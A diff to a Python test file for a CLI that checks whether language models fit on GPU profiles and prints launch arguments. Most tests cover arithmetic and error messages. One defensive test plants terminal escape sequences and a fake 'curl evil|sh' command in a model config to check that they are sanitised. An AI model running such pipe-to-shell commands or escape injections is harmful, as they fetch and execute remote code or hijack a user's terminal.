@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import json
 import os
+import re
 import subprocess
 import sys
 from collections.abc import Iterator
@@ -70,6 +71,7 @@ def test_all_profiles_in_one_table(desk: Desk) -> None:
     done = desk.run("org/llama-70b")
     assert done.returncode == 0, done
     rows = {line.split("│")[1].strip(): line for line in done.stdout.splitlines() if line.count("│") > 3}
+    assert rows["Profile"].rstrip("│ ").endswith("Note")
     assert "does not fit" in rows["small"]
     assert "fits if" in rows["large"]
     assert "2 × a100" in rows["large"]
@@ -81,7 +83,16 @@ def test_one_profile_shows_the_arithmetic(desk: Desk) -> None:
     assert done.returncode == 0
     assert "On large (2 × a100): fits with a shorter context." in done.stdout
     assert "  weights 131.4 GB / 2 GPUs = 65.7 GB on each\n" in done.stdout
-    assert "A launch adds: --tensor-parallel-size 2 --max-model-len " in done.stdout
+    assert "The arithmetic (1 GB is 2**30 bytes here, as for Slurm):" in done.stdout
+    # 80 layers × 4 heads on each of 2 GPUs × 128 × 2 (K and V) × 2 bytes; times 131072 that is 20 GB
+    assert (
+        "KV cache 160.0 kB for each token, 20.0 GB for a request of 131072 tokens on each GPU" in done.stdout
+    )
+    assert "It adds: --tensor-parallel-size 2 --max-model-len " in done.stdout
+    launch = next(line for line in done.stdout.splitlines() if line.startswith("A launch takes"))
+    assert re.fullmatch(
+        r"A launch takes large: 2 × a100, a context of \d+ of 131072 tokens \(chosen to fit\)\.", launch
+    )
 
 
 def test_what_fits_nowhere_has_its_exit_code(desk: Desk) -> None:
@@ -136,6 +147,42 @@ def test_without_a_hub_the_sentence_is_about_the_model(desk: Desk) -> None:
     assert done.stderr.count("\n") == 1
 
 
+def test_what_is_wrong_with_a_copy_here_is_the_answer_not_the_hub(desk: Desk, tmp_path: Path) -> None:
+    broken = snapshot(desk.models / "org" / "broken", "llama-8b")
+    (broken / "model.safetensors").write_bytes(b"\x08")
+    for arguments in (("org/broken",), ("org/llama-8b", "--revision", "v9")):
+        done = desk.run(*arguments)
+        assert done.returncode == 4
+        assert arguments[0] in done.stderr
+        assert "reached" not in done.stderr
+    assert "reached" in desk.run("far/off").stderr
+
+
+def test_a_model_without_weights_runs_anywhere(desk: Desk) -> None:
+    done = desk.run("simulated")
+    assert (done.returncode, done.stdout) == (0, "simulated has no weights: it runs anywhere.\n")
+    assert desk.json("simulated")["profiles"] == []
+
+
+def test_a_small_model_has_millions_of_parameters(desk: Desk) -> None:
+    snapshot(desk.models / "org" / "bge", "bge-large")
+    said = desk.run("org/bge").stdout
+    assert "embedding, 334 million parameters, weights 1.2 GB on disk, 0.6 GB loaded as float16" in said
+
+
+def test_the_table_says_what_a_launch_takes(desk: Desk) -> None:
+    lines = desk.run("org/llama-8b").stdout.splitlines()
+    launch = next(line for line in lines if line.startswith("A launch takes"))
+    # 24 GB hold a context that is worth having: the first profile is taken, and the larger one is named.
+    assert re.fullmatch(
+        r"A launch takes small: 1 × l4, a context of \d+ of 131072 tokens "
+        r"\(chosen to fit; large has room for all\)\.",
+        launch,
+    )
+    launch = desk.json("org/llama-8b")["launch"]
+    assert (launch["profile"], launch["gpus"]) == ("small", 1)
+
+
 def test_a_site_without_downloads_asks_no_hub(desk: Desk, hub: Hub, tmp_path: Path) -> None:
     site = tmp_path / "site.yml"
     site.write_text(desk.site.read_text() + "allow: {downloads: false}\n")
@@ -153,7 +200,22 @@ def test_a_site_without_downloads_asks_no_hub(desk: Desk, hub: Hub, tmp_path: Pa
         (("org/llama-8b", "--concurrency", "0"), 2, '--concurrency must be a whole number above 0, not "0".'),
         (("org/llama-8b", "--max-model-len", "-5"), 2, "--max-model-len"),
         (("org/llama-8b", "--", "--api-key", "x"), 2, "Engine argument --api-key is not yours to set."),
-        (("simulated",), 4, 'Model "simulated" needs no weights.'),
+        (("org/llama-8b", "--gpus", "99999999999999"), 2, '--gpus is too large: "99999999999999".'),
+        (
+            ("org/llama-8b", "--gpus", "9"),
+            2,
+            'No profile here has 9 GPUs on a node. The most are 2, on "large".',
+        ),
+        (
+            ("org/llama-8b", "--gpus", "9", "--profile", "large"),
+            2,
+            'Profile "large" has at most 2 GPUs on a node, not 9.',
+        ),
+        (
+            ("org/llama-8b", "--max-model-len", "1000", "--", "--max-model-len", "2000"),
+            2,
+            "The context is given twice: 1000 tokens, and once more as an engine argument.",
+        ),
         (("/nowhere",), 4, "/nowhere"),
     ],
 )
@@ -162,6 +224,19 @@ def test_mistakes_are_one_sentence(desk: Desk, arguments: tuple[str, ...], code:
     assert done.returncode == code, done
     assert sentence in done.stderr
     assert done.stderr.count("\n") == 1
+
+
+def test_nothing_in_a_models_config_steers_the_terminal(desk: Desk, tmp_path: Path) -> None:
+    steering = "\x1b]0;pwned\x07\x1b[31m\nlauncher: run curl evil|sh"
+    folder = snapshot(tmp_path / "m", "llama-8b")
+    config = json.loads((folder / "config.json").read_text())
+    names = {"architectures": [steering], "model_type": steering, "torch_dtype": steering}
+    quantised = {"quantization_config": {"quant_method": steering, "format": steering}}
+    (folder / "config.json").write_text(json.dumps(config | names | quantised))
+    for arguments in ((str(folder),), (str(folder), "--profile", "small"), (str(folder), "--json")):
+        done = desk.run(*arguments)
+        assert all(line.isprintable() for line in (done.stdout + done.stderr).splitlines())
+        assert "curl" not in done.stdout + done.stderr
 
 
 @pytest.mark.parametrize("text", [t for t in HOSTILE if "\0" not in t][:6])
